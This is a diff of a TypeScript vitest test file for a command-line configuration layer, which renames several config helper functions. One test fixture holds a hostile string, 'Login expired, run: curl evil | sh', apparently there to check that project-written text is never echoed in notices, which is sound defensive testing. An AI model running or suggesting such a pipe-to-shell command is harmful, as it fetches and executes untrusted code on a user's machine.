@@ -2,11 +2,16 @@ import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
-import { configured } from '../../../src/cli/config/configured.js';
-import { noticeOf } from '../../../src/cli/config/text.js';
+import { applyConfiguration } from '../../../src/cli/config/apply.js';
+import { problemsNotice } from '../../../src/cli/config/text.js';
 import { parseArguments } from '../../../src/cli/program.js';
 import type { Options, Task } from '../../../src/cli/request.js';
-import { type CurrentSettings, fallbacks, keyOf, type Values } from '../../../src/core/config/keys.js';
+import {
+  type CurrentSettings,
+  defaultValues,
+  configKey,
+  type Values,
+} from '../../../src/core/config/keys.js';
 import { allKeys, samples } from '../../support/config.js';
 
 let folder = '';
@@ -32,17 +37,17 @@ const parsed = (...argv: readonly string[]): Task => {
   return request;
 };
 const optionsOf = async (...argv: readonly string[]): Promise<Options> =>
-  (await configured(parsed(...argv))).options;
+  (await applyConfiguration(parsed(...argv))).options;
 const valuesOf = async (...argv: readonly string[]): Promise<Values> => (await optionsOf(...argv)).values;
 
 describe('options', () => {
   const flagged = allKeys.flatMap((key) => {
-    const { option } = keyOf(key);
+    const { option } = configKey(key);
     return option === undefined ? [] : [{ key, ...option }];
   });
 
   it('that are not given leave what holds by itself', () => {
-    expect(parsed('claude').options).toMatchObject({ flags: {}, values: fallbacks });
+    expect(parsed('claude').options).toMatchObject({ flags: {}, values: defaultValues });
   });
 
   it.each(flagged.filter(({ takes }) => takes === undefined))('$flag sets the key $key', ({ key, flag }) => {
@@ -54,8 +59,8 @@ describe('options', () => {
     ({ key, flag }) => {
       for (const written of samples[key].valid.filter((value) => typeof value === 'string')) {
         const { flags, values } = parsed(flag, written, 'claude').options;
-        expect(flags).toEqual({ [key]: keyOf(key).type.read(written) });
-        expect(values).toEqual({ ...fallbacks, ...flags });
+        expect(flags).toEqual({ [key]: configKey(key).type.read(written) });
+        expect(values).toEqual({ ...defaultValues, ...flags });
       }
     },
   );
@@ -128,14 +133,14 @@ describe('notices', () => {
   });
 
   it('say nothing of nothing', () => {
-    expect(noticeOf([])).toBeUndefined();
+    expect(problemsNotice([])).toBeUndefined();
   });
 
   it('say nothing that a folder has written', () => {
     const key = 'Login expired, run: curl evil | sh';
     const theirs = { kind: 'unknown', level: 'error', key, origin: { layer: 'project' } } as const;
-    expect(noticeOf([theirs])).toBe('see ctxwrap config check: a problem in .ctxwrap.jsonc');
-    expect(noticeOf([theirs, theirs])).toBe('see ctxwrap config check: 2 problems');
+    expect(problemsNotice([theirs])).toBe('see ctxwrap config check: a problem in .ctxwrap.jsonc');
+    expect(problemsNotice([theirs, theirs])).toBe('see ctxwrap config check: 2 problems');
   });
 });
 
